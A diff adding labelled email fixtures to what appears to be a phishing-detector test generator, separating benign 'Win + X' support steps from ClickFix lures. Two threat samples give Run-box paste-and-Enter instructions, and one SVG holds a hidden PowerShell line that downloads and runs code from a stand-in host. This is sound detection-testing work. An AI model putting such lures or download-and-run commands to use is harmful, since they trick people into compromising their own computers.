@@ -2967,6 +2967,55 @@ def session44_samples():
           "subscription has been renewed and $399.99 has been charged. If "
           "you did not authorize this, call +1 (808) 215-4471.\n",
           "potential", "content.callback")
+    # Review 45: steps that open the Run box or a terminal without a
+    # pretext or a command that fetches (a vendor's support, a news
+    # letter's shortcuts) are no ClickFix; the attack written otherwise
+    # ("Windows key and the R key", "hold Ctrl and press V", an SVG)
+    # still is.
+    write("en-491-clean-vendor-winx-steps.eml",
+          headers("Dell Support <support@dell-support.example>",
+                  "Your service request - next steps") +
+          "Content-Type: text/plain; charset=utf-8\n\nPress Windows key + "
+          "X and choose Device Manager. Expand \"Human Interface Devices\", "
+          "copy the first Hardware Id and paste it in your reply.\n",
+          "clean", "!content.clickfix")
+    write("en-492-clean-shortcut-tips.eml",
+          headers("PowerShell Community <news@powershell-news.example>",
+                  "PowerShell Digest #212") +
+          "Content-Type: text/plain; charset=utf-8\n\n- Use Win + X, then "
+          "A, to open Terminal (Admin) quickly.\n- Paste multi-line "
+          "commands safely: Ctrl + V no longer runs each line.\n- iex and "
+          "Invoke-Expression: why to avoid them.\nhttps://powershell-news"
+          ".example/212\n", "clean", "!content.clickfix")
+    write("en-493-clickfix-worded-keys.eml",
+          headers("Guest Desk <desk@guest-review-help.example>",
+                  "Guest complaint") +
+          "Content-Type: text/plain; charset=utf-8\n\nTo view the complaint, "
+          "verify you are human: press the Windows key and the R key, then "
+          "hold Ctrl and press V, then Enter.\n", "threat",
+          "content.clickfix")
+    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200">'
+           '<text x="10" y="40">To play: press Win + R, then Ctrl + V, then '
+           'Enter.</text><text x="10" y="80">powershell -w h -c "iwr '
+           'x-online.example/v|iex"</text></svg>')
+    write("en-494-clickfix-svg.eml",
+          headers("Sarah Lee <sarah.lee@harbor-logistics.example>",
+                  "New voicemail (0:42)") +
+          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
+          "Content-Type: text/plain; charset=utf-8\n\nListen to the "
+          "attached message.\n\n--b1\nContent-Type: image/svg+xml; "
+          'name="voicemail.svg"\nContent-Disposition: attachment; '
+          'filename="voicemail.svg"\nContent-Transfer-Encoding: base64\n\n'
+          "%s\n--b1--\n" % b64(svg.encode()), "threat",
+          "attach.html_clickfix")
+    write("ja-51-clean-vendor-winx-ja.eml",
+          headers("=?UTF-8?B?44K144Od44O844OI?= <support@printer-vendor.example>",
+                  "=?UTF-8?B?UmU6IOODieODqeOCpOODkOOBrueiuuiqjeaWueazlQ==?=") +
+          "Content-Type: text/plain; charset=utf-8\n"
+          "Content-Transfer-Encoding: 8bit\n\nWindowsキー＋X を押して"
+          "「デバイスマネージャー」を開き、ハードウェアIDを確認してコピーし、"
+          "このメールへの返信に貼り付けてください。\n", "clean",
+          "!content.clickfix")
 
 def review37_samples():
     """Review 37's shapes: file names shown as links, an SVG picture that
